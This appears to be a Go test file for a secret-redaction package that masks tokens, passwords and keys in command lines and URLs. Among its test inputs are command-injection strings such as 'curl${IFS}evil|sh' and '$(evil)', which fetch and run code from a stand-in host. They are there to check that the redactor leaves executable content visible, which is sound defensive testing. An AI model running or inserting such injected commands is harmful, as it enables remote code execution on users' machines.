package sanitize

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"
)

func TestCommandSecrets(t *testing.T) {
	for _, tt := range []struct {
		line string   // its words, joined by |
		want []string // in their order
	}{
		{"npx|-y|server|--api-key|hunter2hunter", []string{"hunter2hunter"}},
		{"npx|-y|server|--api-key=hunter2hunter", []string{"hunter2hunter"}},
		{"server|--apiKey|correct-horse", []string{"correct-horse"}},
		{"server|-token|abcdef", []string{"abcdef"}},
		{"server|--token|--verbose", nil},
		{"server|--token|$TOKEN|--token=${TOKEN}", nil},
		{"docker|run|-e|GITHUB_TOKEN=shortone|-e|MODE=production|image", []string{"shortone"}},
		{"docker|run|--env=GITHUB_TOKEN=shortone", []string{"shortone"}},
		{"docker|run|-e|GITHUB_TOKEN|image", nil},
		{"npx|mcp-remote|https://host/mcp|--header|Authorization: Bearer abcd1234", []string{"abcd1234"}},
		{"npx|mcp-remote|https://host/mcp|--header|X-Api-Key:abcd1234", []string{"abcd1234"}},
		{"npx|mcp-remote|https://host/s/NTE2ZGQ3OWMtOTY0Yy00/mcp?page=2", []string{"NTE2ZGQ3OWMtOTY0Yy00"}},
		{"server|postgresql://me:pa55@db/main", []string{"pa55"}},
		{"server|--url=https://host/mcp?token=abcdef&page=home", []string{"abcdef"}},
		{"DATABASE_URL=redis://:pw1234@host", []string{"pw1234"}},
		{"sh|-c|API_KEY='abc def' TOKEN=xyzzy1 exec npx server --secret=plugh2", []string{"xyzzy1", "plugh2"}},
		{"server|ghp_0123456789abcdefghij", []string{"ghp_0123456789abcdefghij"}},
		{"server|a8f3k2m9x7q4w1z6|b", []string{"a8f3k2m9x7q4w1z6"}},
		{"server|--project-id|64f1c0ffee64f1c0ffee1234", nil},
		{"npx|-y|@modelcontextprotocol/server-filesystem@2025.8.21|/home/me/notes", nil},
		{"docker|run|ghcr.io/github/github-mcp-server@sha256:64f1c0ffee64f1c0ffee123464f1c0ffee64f1c0ffee1234", nil},
		{"uvx|--from|git+https://github.com/me/some-long-server-name|server-for-postgres15-databases", nil},
		{"server|--token-limit|100000|--key|/etc/ssl/private/server.pem|--sort-key|created-at|--auth|device-code", nil},
		{"server|--key|s3cretvalue", []string{"s3cretvalue"}},
		{"/tmp/tmp.a8f3k2m9x7q4w1z6/server|--dir|/tmp/a8f3k2m9x7q4w1z6", nil},
		{"|--token||=x", []string{"=x"}},
		{"--token=\"\"|--token= |", nil},
		{"sh|-c|curl -H \"Authorization: Bearer abcd1234\" -H 'X-Api-Key: efgh5678' https://host", []string{"abcd1234", "efgh5678"}},
		{"server|--header=Authorization: Bearer abcd1234", []string{"abcd1234"}},
		{"server|--APIToken|abcd1234|--openaitoken=efgh5678|--projectIDs|a8f3k2m9x7q4w1z6", []string{"abcd1234", "efgh5678"}},
		{"server|--password|/abc/def|--token=~abcd|--secret|.x1", []string{"/abc/def", "~abcd", ".x1"}},
		{"GOOGLE_APPLICATION_CREDENTIALS=/home/me/key.json|--api-key|/run/key", nil},
		{"server|postgres://u:pa%zz@h/db|root:pw1234@tcp(db:3306)/main|DSN=root:pw1234@tcp(db)/main", []string{"pa%zz", "pw1234", "pw1234"}},
		{"ghr_0123456789|dop_v1_0123456789|shpat_0123456789|pypi-AgEI0123456789", []string{"ghr_0123456789", "dop_v1_0123456789", "shpat_0123456789", "pypi-AgEI0123456789"}},
		{"npm_config_registry=https://registry.npmjs.org/|--monkey|abcd1234|--turkey=abcd1234|--keyboard|abcd1234|--tokens|1000", nil},
		{"server|--token|Bearer abcd1234|--auth|Basic abcd1234", []string{"abcd1234", "abcd1234"}},
		{"https://me:pa%20ss@host", []string{"pa%20ss", "pa ss"}},
	} {
		if got := CommandSecrets(strings.Split(tt.line, "|")); !slices.Equal(got, tt.want) {
			t.Errorf("%s: got %q, want %q", tt.line, got, tt.want)
		}
	}
}

func TestURLSecrets(t *testing.T) {
	for address, want := range map[string][]string{
		"https://mcp.example.com/v1/mcp":                                     nil,
		"https://mcp.example.com/api/v2/projects/website-relaunch/mcp":       nil,
		"https://user@host/mcp":                                              {"user"},
		"https://user:pass@host/mcp":                                         {"pass"},
		"https://x:y@host/?api_key=k1&page=2&q=words":                        {"k1", "y"},
		"https://host/s/hunter22/mcp":                                        {"hunter22"},
		"https://host/s/servers/mcp":                                         nil,
		"https://host/token/abc123/mcp":                                      {"abc123"},
		"https://host/550e8400-e29b-41d4-a716-446655440000/mcp":              {"550e8400-e29b-41d4-a716-446655440000"},
		"https://host/9f86d081884c7d659a2feaa0c55ad015/mcp":                  {"9f86d081884c7d659a2feaa0c55ad015"},
		"https://host/modelContextProtocolServers/internationalization2/mcp": nil,
		"https://host/mcp#a8f3k2m9x7q4w1z6":                                  {"a8f3k2m9x7q4w1z6"},
		"https://host/a8f3k2m9%20x7q4w1z6a8f3k2m9x7q4w1z6":                   {"a8f3k2m9 x7q4w1z6a8f3k2m9x7q4w1z6", "a8f3k2m9%20x7q4w1z6a8f3k2m9x7q4w1z6"},
	} {
		u, err := url.Parse(address)
		if err != nil {
			t.Fatal(err)
		}
		got := URLSecrets(u)
		slices.Sort(got)
		if got = slices.Compact(got); !slices.Equal(got, want) {
			t.Errorf("%s: got %q, want %q", address, got, want)
		}
	}
}

// Of random keys nearly all are recognized, whatever letters they are made of.
func TestLooksSecretRandom(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	for alphabet, least := range map[string]int{"0123456789abcdef": 990, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789": 990, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567": 700} {
		found := 0
		for range 1000 {
			key := make([]byte, 32)
			for i := range key {
				key[i] = alphabet[r.IntN(len(alphabet))]
			}
			if LooksSecret(string(key)) {
				found++
			}
		}
		if found < least {
			t.Errorf("%s: %d of 1000", alphabet, found)
		}
	}
	if found := fmt.Sprint(LooksSecret(""), LooksSecret("20251122T101530Z0000"), LooksSecret("internationalization"), LooksSecret("1234567890123456")); found != "false false false false" {
		t.Errorf("ordinary words: %s", found)
	}
}

// Nothing is hidden that a shell or an interpreter would run, and only where it stands.
func TestRedactCommand(t *testing.T) {
	quote := func(word string) string {
		if strings.ContainsAny(word, " ;'") {
			return "<" + word + ">"
		}
		return word
	}
	for line, want := range map[string]string{
		"x --password=;curl${IFS}evil|sh":                   "x --password=;curl${IFS}evil|sh",
		"x --password=abc;curl${IFS}evil":                   "x --password=abc;curl${IFS}evil",
		"x --password; curl evil.example":                   "x --password; curl evil.example",
		"x --password\ncurl evil.example":                   "x --password\ncurl evil.example",
		"x --password `evil` $(evil) (evil)":                "x --password `evil` $(evil) (evil)",
		"x --password $(evil)":                              "x --password $(evil)",
		"x --password 'curl evil'":                          "x --password 'curl evil'",
		"x --password 'abcdef' y":                           "x --password '[redacted]' y",
		"pass: ; curl evil | sh":                            "pass: ; curl evil | sh",
		"token: abcdef; curl evil":                          "token: abcdef; curl evil",
		"token:require('child_process')":                    "token:require('child_process')",
		`TOKEN="abc def" x`:                                 `TOKEN="abc def" x`,
		`TOKEN="abcdef" x; SECRET=xyzzy1; y abcdef`:         `TOKEN="[redacted]" x; SECRET=[redacted]; y abcdef`,
		"server --token good@1 good@1.2.3":                  "server --token [redacted] good@1.2.3",
		`x "https://me:pa55@host/s/hunter22/mcp?key=k1&sh"`: `x "https://me:[redacted]@host/s/[redacted]/mcp?key=[redacted]&sh"`,
	} {
		if got := RedactCommand([]string{line}, nil); len(got) != 1 || got[0] != want {
			t.Errorf("%s: got %q, want %q", line, got, want)
		}
	}
	got := RedactCommand([]string{"sk-abcdefgh12", "--token", "abc", "--secret", "a b;c", "Authorization: Bearer abcd1234", "--key=k1"}, quote)
	if want := []string{"sk-abcdefgh12", "--token", Redacted, "--secret", "<a b;c>", "<Authorization: Bearer [redacted]>", "--key=[redacted]"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

// The program of a launcher is shown, wherever it stands; its arguments are hidden as those of any program.
func TestRedactLaunchers(t *testing.T) {
	const random = "a8f3k2m9x7q4w1z6"
	for line, want := range map[string]string{
		// Programs.
		"npx --token evilpkg":                                    "",
		"npx -y --token evilpkg":                                 "",
		"npx --registry https://h.example --token evil":          "",
		"/usr/bin/npx --yes --api-key evilpkg":                   "",
		"npx.cmd --token evilpkg":                                "",
		"npm exec --token evilpkg":                               "",
		"pnpm dlx --token evilpkg":                               "",
		"bunx --token evilpkg":                                   "",
		"sudo -u me npx --token evilpkg":                         "",
		"docker run -e A=b node npx --token evilpkg":             "",
		"cd x && npx --token evilpkg":                            "",
		"cd x; n''px --token evilpkg":                            "",
		"true\n$NPX --token evilpkg":                             "",
		`n\px --token evilpkg`:                                   "",
		"npx \\\n--token evilpkg":                                "",
		"npx --foo token: evilpkg":                               "",
		"npx -y " + random:                                       "",
		"npx --package=" + random + " x":                         "",
		"npx -p " + random + " x":                                "",
		"uvx --from " + random + " x":                            "",
		"node " + random:                                         "",
		"node TOKEN=evil.js":                                     "",
		"bash -e TOKEN=evil.sh":                                  "",
		"python3.12 -m " + random:                                "",
		"docker run -i --rm " + random:                           "",
		"uvx --from git+https://github.com/a/b#" + random + " x": "",
		"npx -y https://h.example/token/evil.tgz":                "",
		// Arguments.
		"npx -y good --token abcdef":                           "npx -y good --token [redacted]",
		"npx --yes --quiet good@1 --token abcdef":              "npx --yes --quiet good@1 --token [redacted]",
		"npx -p good bin --token abcdef":                       "npx -p good bin --token [redacted]",
		"npx --package=good bin --token abcdef":                "npx --package=good bin --token [redacted]",
		"npx --no-install good --token abcdef":                 "npx --no-install good --token [redacted]",
		"npx -- good --token abcdef":                           "npx -- good --token [redacted]",
		"npx --foo good bin --token abcdef":                    "npx --foo good bin --token [redacted]",
		"cargo run -- --token abcdef":                          "cargo run -- --token [redacted]",
		"dotnet run --project p -- --token=abcdef":             "dotnet run --project p -- --token=[redacted]",
		"dotnet run --token abcdef":                            "dotnet run --token [redacted]",
		"npm exec -- --token abcdef":                           "npm exec -- --token [redacted]",
		"npm run start -- --token abcdef":                      "npm run start -- --token [redacted]",
		"npx -y good " + random:                                "npx -y good [redacted]",
		"npx --//h.example/:_authToken=abcdef good":            "npx --//h.example/:_authToken=[redacted] good",
		"npx --registry https://me:pa55@h.example good":        "npx --registry https://me:[redacted]@h.example good",
		"npx -y https://h.example/x.tgz?token=abcdef":          "npx -y https://h.example/x.tgz?token=[redacted]",
		"uvx --from git+https://me:pa55@h.example/a good":      "uvx --from git+https://me:[redacted]@h.example/a good",
		"uv --directory /d run server.py --token abcdef":       "uv --directory /d run server.py --token [redacted]",
		"python -m good --token abcdef":                        "python -m good --token [redacted]",
		"python -u server.py --token abcdef":                   "python -u server.py --token [redacted]",
		"node --no-warnings x.js --token abcdef":               "node --no-warnings x.js --token [redacted]",
		"java -Dtoken=abcdef -jar x.jar --token abcdef":        "java -Dtoken=[redacted] -jar x.jar --token [redacted]",
		"docker run -i --rm -e A_TOKEN=abcdef image --key k-1": "docker run -i --rm -e A_TOKEN=[redacted] image --key [redacted]",
		"docker run -e token=abcdef -eB_TOKEN=abcdef image":    "docker run -e token=[redacted] -eB_TOKEN=[redacted] image",
		"docker run --rm image postgres://me:pa55@db/main":     "docker run --rm image postgres://me:[redacted]@db/main",
		"env A_TOKEN=abcdef server --token abcdef":             "env A_TOKEN=[redacted] server --token [redacted]",
		"A_TOKEN=abcdef exec npx good --token abcdef":          "A_TOKEN=[redacted] exec npx good --token [redacted]",
		"$HOME/bin/server --token abcdef":                      "$HOME/bin/server --token [redacted]",
		"npx -y good $HOME --token abcdef":                     "npx -y good $HOME --token [redacted]",
	} {
		if want == "" {
			want = line
		}
		if got := RedactCommand([]string{line}, nil)[0]; got != want {
			t.Errorf("as a line: got %q, want %q", got, want)
		}
		if strings.ContainsAny(line, "\n;&\\'$:") || strings.HasPrefix(line, "A_TOKEN=") {
			continue // another line in words
		}
		if got := strings.Join(RedactCommand(strings.Fields(line), strings.Clone), " "); got != want {
			t.Errorf("as words: got %q, want %q", got, want)
		}
	}
}

// The script may run the arguments of its shell.
func TestRedactScripts(t *testing.T) {
	for line, want := range map[string]string{
		`sh|-c|npx "$@"|sh|--token|evilpkg`:        `sh|-c|npx "$@"|sh|--token|evilpkg`,
		`sh|-c|"$@"|sh|npx|--token|evilpkg`:        `sh|-c|"$@"|sh|npx|--token|evilpkg`,
		`sh|-c|$0 "$@"|npx|--token|evilpkg`:        `sh|-c|$0 "$@"|npx|--token|evilpkg`,
		`bash|-lc|exec npx --token evilpkg`:        `bash|-lc|exec npx --token evilpkg`,
		`sh|-c|TOKEN=abcdef; exec server`:          `sh|-c|TOKEN=[redacted]; exec server`,
		`sh|-c|exec server "$@"|sh|--token|abcdef`: `sh|-c|exec server "$@"|sh|--token|[redacted]`,
	} {
		if got := strings.Join(RedactCommand(strings.Split(line, "|"), strings.Clone), "|"); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

// Whatever a command line is, what is hidden of it is of the characters of keys, and the rest stays.
func FuzzRedactCommand(f *testing.F) {
	for _, line := range []string{"x --token abc", "A_KEY='b' c", `-H "X-Key: abcdefg"`, "https://a:b@c/?key=d#e", "u:p@tcp(h)", "a\n--key b1"} {
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, line string) {
		if strings.Contains(line, Redacted) {
			return
		}
		rest := line
		for i, kept := range strings.Split(RedactCommand([]string{line}, nil)[0], Redacted) {
			at := strings.Index(rest, kept)
			if at < 0 || i == 0 && at > 0 {
				t.Fatalf("%q: %q is not in it", line, kept)
			}
			rest = rest[at+len(kept):]
		}
		for _, spans := range commandSpans([]string{line}, true) {
			for i, s := range spans {
				if !isKeyRun.MatchString(line[s.from:s.to]) || i > 0 && s.from < spans[i-1].to {
					t.Fatalf("%q: %v", line, spans)
				}
			}
		}
	})
}

func TestIsSecretVariable(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]bool{
		"OPENAI_API_KEY": true, "apiKey": true, "GITHUB_TOKEN": true, "AWS_SECRET_ACCESS_KEY": true, "MY_PASSWORD": true,
		"X_PASSPHRASE": true, "DB_PASS": true, "FOO_AUTH": true, "HTTP_AUTHORIZATION": true, "CREDENTIALS_JSON": true,
		"KEY_2": true, "MY_SSH_AUTH_SOCK": true, "PATH": false, "HOME": false, "LANG": false, "": false,
		"SSH_AUTH_SOCK": false, "ssh_auth_sock": false, "XAUTHORITY": false, "GIT_AUTHOR_NAME": false, "GIT_AUTHOR_EMAIL": false,

		"AWS_ACCESS_KEY_ID": true, "AWS_SESSION_TOKEN": true, "NPM_TOKEN": true, "NODE_AUTH_TOKEN": true, "npm_config__authToken": true,
		"PGPASSWORD": true, "PGPASSFILE": true, "MYSQL_PWD": true, "MYSQL_ROOT_PASSWORD": true, "REDISCLI_AUTH": true,
		"DOCKER_AUTH_CONFIG": true, "SENTRY_DSN": true, "SENTRY_AUTH_TOKEN": true, "DATABASE_URL": true, "REDIS_URL": true,
		"MONGODB_URI": true, "CELERY_BROKER_URL": true, "AZURE_STORAGE_CONNECTION_STRING": true, "CI_JOB_TOKEN": true,
		"AZURE_DEVOPS_EXT_PAT": true, "GITHUB_PAT": true, "SLACK_WEBHOOK_URL": true, "STRIPE_APIKEY": true, "SECRETKEY": true,
		"DJANGO_SECRET_KEY": true, "SECRET_KEY_BASE": true, "RAILS_MASTER_KEY": true, "RELEASE_COOKIE": true, "SUPABASE_JWT": true,
		"GOOGLE_APPLICATION_CREDENTIALS": true, "VAULT_TOKEN": true, "ANSIBLE_VAULT_PASSWORD_FILE": true, "GPG_PASSPHRASE": true,
		"SSH_PRIVATE_KEY": true, "CARGO_REGISTRY_TOKEN": true, "TWINE_PASSWORD": true, "SONAR_TOKEN": true, "HF_TOKEN": true,
		"DBPASS": true, "APITOKENS": true, "BASIC_AUTHENTICATION": true, "GNOME_KEYRING_PASSWORD": true, "KEYCLOAK_ADMIN_PASSWORD": true,
		"KEYBOARD_API_KEY": true, "AUTHOR_TOKEN": true,
		"CEPH_KEYRING": true, "WALLET_HOTKEY": true, "ToKen": true, "PaSsWoRd": true, "dbPwd": true,

		"GNOME_KEYRING_CONTROL": false, "GNOME_KEYRING_PID": false, "PIP_KEYRING_PROVIDER": false, "KEYBOARD": false, "XKB_KEYMAP": false,
		"KEYMAP": false, "KEYTIMEOUT": false, "MONKEY": false, "TURKEY_REGION": false, "TOKENIZERS_PARALLELISM": false,
		"GIT_AUTHOR_DATE": false, "CARGO_PKG_AUTHORS": false, "SSH_ASKPASS": false, "GIT_ASKPASS": false, "SUDO_ASKPASS": false,
		"SSH_ASKPASS_REQUIRE": false, "LESSKEY": false, "KEYCLOAK_URL": false, "PASSENGER_APP_ENV": false, "COMPASS_HOME": false,
		"PASSWORD_STORE_DIR": false, "MAX_THINKING_TOKENS": false, "CLAUDE_CODE_MAX_OUTPUT_TOKENS": false, "PWD": false, "OLDPWD": false,
		"SSH_AGENT_PID": false, "PATH_INFO": false, "XDG_RUNTIME_DIR": false, "DBUS_SESSION_BUS_ADDRESS": false, "COLORTERM": false,
		"BASE_URL": false, "BACKEND_URL": false, "CLICOLOR": false, "PATCH": false, "EDITOR": false,
	} {
		if got := IsSecretVariable(name); got != want {
			t.Errorf("%q: got %v", name, got)
		}
	}
}
